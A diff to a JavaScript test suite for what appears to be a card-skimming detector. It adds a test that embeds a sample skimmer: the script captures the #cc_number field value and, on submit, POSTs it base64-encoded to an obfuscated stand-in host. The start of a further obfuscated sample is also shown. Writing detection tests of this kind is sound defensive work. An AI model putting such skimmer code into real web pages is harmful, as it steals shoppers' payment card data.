@@ -152,6 +152,25 @@ describe('sends the first look cannot name', () => {
     expect(points(carried)).toBe(60)
   })
 
+  it("what an object's methods keep in this.#field or this.field travels with it", () => {
+    const source = `class Pad {
+        #seen = new Map()
+        static #to = ['https://', 'cdn-pixel', '.example', '/p'].join('')
+        note(el) { this.#seen.set(el.name, el.value) }
+        async flush() {
+          await fetch(Pad.#to + '?t=' + Date.now(), { method: 'POST', mode: 'no-cors',
+            body: btoa(JSON.stringify(Object.fromEntries(this.#seen))) }) } }
+      const pad = new Pad()
+      document.querySelector('#cc_number').addEventListener('change', (e) => pad.note(e.target))
+      document.addEventListener('submit', () => pad.flush(), true)`
+    expect(rules(source)).toContain('card-field-read-and-send')
+    // a public field, given in the constructor, alike
+    const open = source
+      .replace('#seen = new Map()', 'constructor() { this.seen = new Map() }')
+      .replaceAll('this.#seen', 'this.seen')
+    expect(rules(open)).toContain('card-field-read-and-send')
+  })
+
   it('names joined by a one-line wrapper of + are names', () => {
     const source = `var j = function (a, b) { return a + b }
       document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
